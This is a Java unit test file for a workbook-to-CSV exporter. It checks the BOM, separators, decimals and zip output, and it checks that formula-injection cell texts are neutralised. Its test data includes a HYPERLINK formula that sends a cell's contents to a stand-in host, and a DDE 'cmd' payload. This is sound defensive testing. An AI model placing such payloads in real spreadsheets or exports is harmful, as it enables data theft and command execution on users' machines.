package capaian.convert;

import capaian.examples.ExampleBuilder;
import capaian.examples.Examples;
import capaian.form.Forms;
import capaian.form.Role;
import capaian.rules.ProfileLoader;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.Arrays;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Workbook to CSV: UTF-8 with BOM, separator of choice, and hostile cell texts neutralised. */
class CsvExportTest {
    private static final Converter CONVERTER = new Converter(ProfileLoader.defaultProfile());

    static String text(byte[] csv) {
        assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(csv, 3), "BOM");
        return new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
    }

    @Test
    void hostileTextsComeOutNeutralised() throws Exception {
        byte[] wb = new ExampleBuilder(Forms.LAMPIRAN_REALISASI).header("Dinas Uji", "1.01", 2025, "I")
                .row(Role.KODE, "1.01.02.1.01.01", Role.URAIAN, "=HYPERLINK(\"http://jahat.example/?\"&A1,\"klik\")",
                        Role.INDIKATOR, "+cmd|' /C calc'!A0", Role.SATUAN, "@SUM(1+1)", Role.TARGET, 4, Role.REALISASI, 2,
                        Role.PERMASALAHAN, "-2+3", Role.SOLUSI, "\tTab di depan", Role.PENANGGUNG_JAWAB, "\rCR di depan",
                        Role.PAGU, 1_000_000, Role.REALISASI_ANGGARAN, 250_000)
                .bytes();
        for (char sep : new char[] {';', ','}) {
            Converter.Output out = CONVERTER.convert(wb, "uji.xlsx", Converter.Format.CSV, null, sep, null);
            assertEquals(Converter.Format.CSV, out.format());
            String csv = text(out.bytes());
            String[] lines = csv.split("\r\n");
            assertTrue(lines[0].startsWith("No" + sep + "Kode" + sep + "Tingkat"), lines[0]);
            String row = lines[1];
            assertTrue(row.contains("\"'=HYPERLINK(\"\"http://jahat.example/?\"\"&A1" + (sep == ',' ? "," : ",") + "\"\"klik\"\")\""), row);
            assertTrue(row.contains("'+cmd|' /C calc'!A0"), row);
            assertTrue(row.contains(sep + "'@SUM(1+1)" + sep), row);
            assertTrue(row.contains(sep + "'-2+3" + sep), row);
            // The reader trims a leading tab or CR away; the neutraliser would catch them (see below).
            assertTrue(row.endsWith(sep + "Tab di depan" + sep + "CR di depan"), row);
            // No field of the row starts with a formula character unless it is a number.
            for (String field : splitFields(csv.substring(csv.indexOf("\r\n") + 2), sep)) {
                String f = field;
                if (f.isEmpty() || f.matches("-?[0-9.,]+")) continue;
                assertFalse("=+-@\t\r".indexOf(f.charAt(0)) >= 0, "not neutralised: " + field);
            }
            // Numbers: capaian 50, serapan 25, sisa 750000; a decimal comma with ';', a point with ','.
            assertTrue(row.contains(sep + "50" + sep), row);
            assertTrue(row.contains(sep + "750000" + sep), row);
        }
    }

    /** The fields of CSV text (RFC 4180: quotes doubled inside quoted fields), unquoted. */
    private static List<String> splitFields(String csv, char sep) {
        List<String> out = new java.util.ArrayList<>();
        StringBuilder cur = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') { cur.append('"'); i++; }
                else if (c == '"') quoted = false;
                else cur.append(c);
            } else if (c == '"') {
                quoted = true;
            } else if (c == sep || c == '\n') {
                out.add(cur.toString());
                cur.setLength(0);
            } else if (c != '\r') {
                cur.append(c);
            }
        }
        out.add(cur.toString());
        return out;
    }

    @Test
    void neutraliseLeavesOrdinaryTextAlone() {
        assertEquals("Dokumen", CsvExport.neutralise("Dokumen"));
        assertEquals("'=1+1", CsvExport.neutralise("=1+1"));
        assertEquals("'-", CsvExport.neutralise("-"));
        assertEquals("'\tcmd", CsvExport.neutralise("\tcmd"));
        assertEquals("'\r=1", CsvExport.neutralise("\r=1"));
        assertEquals("\"'\r=1\"", CsvExport.field("\r=1", ';'));
        assertEquals("'@x", CsvExport.neutralise("@x"));
        assertEquals("'+1", CsvExport.neutralise("+1"));
        assertEquals("a;b", CsvExport.neutralise("a;b"));
        assertEquals("\"a;b\"", CsvExport.field("a;b", ';'));
        assertEquals("a;b", CsvExport.field("a;b", ','));
    }

    @Test
    void decimalsFollowTheSeparator() throws Exception {
        byte[] wb = Files.readAllBytes(Examples.DIR.resolve(ExampleBuilder.SEED003));
        String semi = text(CONVERTER.convert(wb, "a.xlsx", Converter.Format.CSV, null, ';', null).bytes());
        String comma = text(CONVERTER.convert(wb, "a.xlsx", Converter.Format.CSV, null, ',', null).bytes());
        assertTrue(semi.contains(";99,26;") || semi.contains(";96,25;"), semi.substring(0, 600));
        assertTrue(comma.contains(",96.25,") || comma.contains(",99.26,"), comma.substring(0, 600));
        assertEquals(semi.split("\r\n").length, 72, "header and 71 rows");
    }

    @Test
    void monitoringWithItsIkuAndIndeksSheetsIsAZipOfThreeFiles() throws Exception {
        byte[] wb = Files.readAllBytes(Examples.DIR.resolve(ExampleBuilder.MONITORING));
        Converter.Output out = CONVERTER.convert(wb, "monitoring.xlsx", Converter.Format.CSV, null, ';', null);
        assertEquals(Converter.Format.ZIP, out.format());
        assertEquals("monitoring-csv.zip", out.fileName());
        List<String> names = entries(out.bytes());
        assertEquals(List.of("Monitoring.csv", "IKU.csv", "Indeks.csv"), names);
    }

    static List<String> entries(byte[] zip) throws Exception {
        List<String> names = new java.util.ArrayList<>();
        try (var z = new java.util.zip.ZipInputStream(new java.io.ByteArrayInputStream(zip))) {
            for (java.util.zip.ZipEntry e; (e = z.getNextEntry()) != null; ) names.add(e.getName());
        }
        return names;
    }
}
